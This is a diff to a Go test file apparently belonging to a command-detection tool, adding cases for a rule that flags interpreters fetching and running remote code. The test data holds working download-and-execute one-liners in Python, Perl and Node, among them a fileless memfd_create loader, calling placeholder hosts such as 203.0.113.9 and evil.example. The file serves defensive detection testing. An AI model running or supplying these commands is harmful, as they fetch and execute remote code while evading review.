@@ -75,6 +75,11 @@ func TestRCEDownloadThenExecute(t *testing.T) {
 
 func TestRCEInterpreterFetchExec(t *testing.T) {
 	runRuleCases(t, "rce.interpreter-fetch-exec", []ruleCase{
+		// Run from memory or by replacing the process: no file to review.
+		cmdCase(`python3 -c "import os,urllib.request as u;f=os.memfd_create('x');os.write(f,u.urlopen('http://203.0.113.9/elf').read());os.execv('/proc/self/fd/%d'%f,['x'])"`, true),
+		cmdCase(`perl -MLWP::Simple -e 'getstore("http://203.0.113.9/b","/tmp/b"); chmod 0755,"/tmp/b"; exec("/tmp/b")'`, true),
+		cmdCase(`python3 -c "import urllib.request as u, os; print(u.urlopen('https://api.example.com').status); os.execvp('ls', ['ls'])"`, true),
+		cmdCase(`python3 -c "import os; os.execvp('ls', ['ls', '-l'])"`, false),
 		cmdCase(`python3 -c "import urllib.request;exec(urllib.request.urlopen('https://evil.example/x').read())"`, true),
 		cmdCase(`python -c "import requests; exec(requests.get('https://evil.example/p').text)"`, true),
 		cmdCase(`node -e "require('https').get('https://evil.example/x', r => { let d=''; r.on('data', c => d+=c); r.on('end', () => eval(d)) })"`, true),
